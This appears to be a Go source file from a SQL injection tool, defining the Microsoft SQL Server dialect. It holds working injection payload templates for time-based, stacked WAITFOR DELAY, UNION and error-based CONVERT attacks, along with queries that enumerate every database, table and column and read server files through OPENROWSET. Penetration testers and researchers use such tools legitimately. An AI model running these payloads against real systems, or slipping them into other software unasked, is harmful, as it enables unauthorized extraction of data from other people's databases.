package dbms

import (
	"fmt"
	"regexp"
	"strings"
)

// MSSQL implements the DBMS interface for Microsoft SQL Server.
type MSSQL struct{}

var mssqlDialect = register(&Dialect{
	Name:     "MSSQL",
	Count:    "COUNT(%s)",
	Case:     "SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END)",
	Cast:     "CAST(%s AS NVARCHAR(4000))",
	NullCast: "ISNULL(CAST(%s AS NVARCHAR(4000)),' ')",
	Top: &LimitRule{
		Pattern:   regexp.MustCompile(`(?i)\s+TOP\s+(\d+)`),
		StopGroup: 1,
	},
	TimeVector:    "AND [RANDNUM]=(CASE WHEN ([INFERENCE]) THEN (SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5) ELSE [RANDNUM] END)",
	StackedVector: "; IF([INFERENCE]) WAITFOR DELAY '0:0:[SLEEPTIME]'",
	UnionVector:   "UNION ALL SELECT [QUERY]",
	limitQuery:    mssqlLimitQuery,
})

// mssqlLimitQuery addresses row num with the TOP 1 ... NOT IN (SELECT TOP
// num ...) idiom, since SQL Server 2000 has no OFFSET.
func mssqlLimitQuery(num int, query, fields, field string) string {
	q := strings.Replace(query, fields, field, 1)
	if !strings.HasPrefix(strings.ToUpper(q), "SELECT ") {
		return q
	}
	core := q[len("SELECT "):]
	order := ""
	if i := indexFold(core, " ORDER BY "); i >= 0 {
		core, order = core[:i], core[i:]
	}
	if num == 0 {
		return "SELECT TOP 1 " + core + order
	}

	cond := fmt.Sprintf("%s NOT IN (SELECT TOP %d %s%s)", field, num, core, order)
	if i := indexFold(core, " WHERE "); i >= 0 {
		core = core[:i] + " WHERE " + cond + " AND " + core[i+len(" WHERE "):]
	} else {
		core += " WHERE " + cond
	}
	return "SELECT TOP 1 " + core + order
}

// Name returns the canonical DBMS name.
func (m *MSSQL) Name() string { return "MSSQL" }

// Concatenate returns MSSQL string concatenation using the + operator.
func (m *MSSQL) Concatenate(parts ...string) string {
	return strings.Join(parts, "+")
}

// Substring returns a MSSQL SUBSTRING(expr, start, length) expression.
func (m *MSSQL) Substring(expr string, start, length int) string {
	return fmt.Sprintf("SUBSTRING(%s,%d,%d)", expr, start, length)
}

// Length returns a MSSQL LEN(expr) expression.
// Note: LEN ignores trailing spaces.
func (m *MSSQL) Length(expr string) string {
	return fmt.Sprintf("LEN(%s)", expr)
}

// ASCII returns a MSSQL UNICODE(expr) expression.
func (m *MSSQL) ASCII(expr string) string {
	return fmt.Sprintf("UNICODE(%s)", expr)
}

// Char returns a MSSQL CHAR(code) expression.
func (m *MSSQL) Char(code int) string {
	return fmt.Sprintf("CHAR(%d)", code)
}

func (m *MSSQL) VersionQuery() string     { return "@@VERSION" }
func (m *MSSQL) CurrentUserQuery() string { return "SYSTEM_USER" }
func (m *MSSQL) CurrentDBQuery() string   { return "DB_NAME()" }
func (m *MSSQL) HostnameQuery() string    { return "@@SERVERNAME" }

// ListDatabasesQuery lists every database on the server.
func (m *MSSQL) ListDatabasesQuery() string {
	return "SELECT name FROM master..sysdatabases"
}

// ListTablesQuery lists the user tables of database.
func (m *MSSQL) ListTablesQuery(database string) string {
	return fmt.Sprintf("SELECT name FROM %s..sysobjects WHERE xtype IN ('u','v')", database)
}

// ListColumnsQuery lists the columns of database..table.
func (m *MSSQL) ListColumnsQuery(database, table string) string {
	return fmt.Sprintf("SELECT %[1]s..syscolumns.name FROM %[1]s..syscolumns,%[1]s..sysobjects WHERE %[1]s..syscolumns.id=%[1]s..sysobjects.id AND %[1]s..sysobjects.name=%[2]s",
		database, m.QuoteString(table))
}

// TableRef returns the database-qualified table name.
func (m *MSSQL) TableRef(database, table string) string {
	if database == "" {
		return table
	}
	return database + ".." + table
}

// ErrorPayloads returns the type-conversion error vectors. SQL Server echoes
// the offending value inside the conversion error.
func (m *MSSQL) ErrorPayloads() []PayloadTemplate {
	return []PayloadTemplate{
		{
			Name:     "convert",
			Template: "AND [RANDNUM]=CONVERT(INT,[QUERY])",
			DBMS:     "MSSQL",
		},
		{
			Name:     "in",
			Template: "AND [RANDNUM] IN ([QUERY])",
			DBMS:     "MSSQL",
		},
	}
}

// SleepFunction returns a MSSQL WAITFOR DELAY statement.
func (m *MSSQL) SleepFunction(seconds int) string {
	return fmt.Sprintf("WAITFOR DELAY '%d:%02d:%02d'", seconds/3600, (seconds%3600)/60, seconds%60)
}

// IfThenElse returns a MSSQL CASE WHEN ... THEN ... ELSE ... END expression.
func (m *MSSQL) IfThenElse(condition, trueExpr, falseExpr string) string {
	return fmt.Sprintf("(CASE WHEN %s THEN %s ELSE %s END)", condition, trueExpr, falseExpr)
}

// QuoteString wraps the string in single quotes, doubling embedded quotes.
func (m *MSSQL) QuoteString(s string) string {
	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
}

// CommentSequence returns the MSSQL line comment sequence.
func (m *MSSQL) CommentSequence() string { return "--" }

// FileReadQuery reads a file through OPENROWSET. It needs ad hoc
// distributed queries to be enabled on the server.
func (m *MSSQL) FileReadQuery(path string) string {
	return fmt.Sprintf("SELECT BulkColumn FROM OPENROWSET(BULK %s, SINGLE_CLOB) AS x", m.QuoteString(path))
}

// Capabilities returns the feature set supported by MSSQL.
func (m *MSSQL) Capabilities() Capabilities {
	return Capabilities{
		StackedQueries: true,
		ErrorBased:     true,
		UnionBased:     true,
		FileRead:       false,
		Subqueries:     true,
		CaseWhen:       true,
		LimitOffset:    false,
		RowLimit:       true,
	}
}
